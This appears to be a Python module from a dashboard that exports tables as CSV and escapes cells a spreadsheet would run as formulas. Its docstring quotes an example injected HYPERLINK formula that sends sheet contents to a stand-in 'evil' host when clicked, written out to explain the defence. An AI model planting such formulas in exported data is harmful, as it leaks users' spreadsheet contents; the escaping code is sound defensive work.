"""Dashboard: tables exported for spreadsheets, with customer text that cannot run as a formula.

Excel and WPS run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and
tab or carriage return before them) as a formula: a customer question such as
``=HYPERLINK("http://evil/?"&A1,"怎么退款？")`` in an exported FAQ would send
the sheet's contents away when clicked. Such text cells get a leading ``'``,
which spreadsheets show as text and hide.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as CSV for Excel (UTF-8 with a byte-order mark), formulas neutralised."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object:
            safe[column] = safe[column].map(formula_safe)
    safe.columns = [formula_safe(str(c)) for c in safe.columns]
    return safe.to_csv(index=False).encode("utf-8-sig")
